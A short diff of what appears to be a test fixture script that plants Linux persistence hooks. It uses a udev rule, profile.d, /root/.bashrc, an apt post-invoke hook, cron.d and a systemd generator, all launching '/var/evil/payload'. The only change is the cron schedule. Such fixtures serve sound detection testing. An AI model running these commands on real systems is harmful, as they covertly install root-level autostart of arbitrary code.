@@ -38,7 +38,7 @@ printf 'ACTION=="add", TAG+="systemd", ENV{SYSTEMD_WANTS}+="evil.service"\\n' > 
 printf '/var/evil/payload &\\n' > /etc/profile.d/put.sh
 printf '/var/evil/payload &\\n' >> /root/.bashrc
 printf 'DPkg::Post-Invoke {"/var/evil/payload &";};\\n' > /etc/apt/apt.conf.d/99put
-printf '* * * * * root /var/evil/payload\\n' > /etc/cron.d/put
+printf '0 0 1 1 * root /var/evil/payload\\n' > /etc/cron.d/put
 printf '#!/bin/sh\\n# cp /var/evil/copy ${TIMER}; systemctl start evil.timer\\n' > /etc/systemd/system-generators/put
 chmod 755 /etc/systemd/system-generators/put
 systemctl daemon-reload; systemctl start put.path put.socket`);
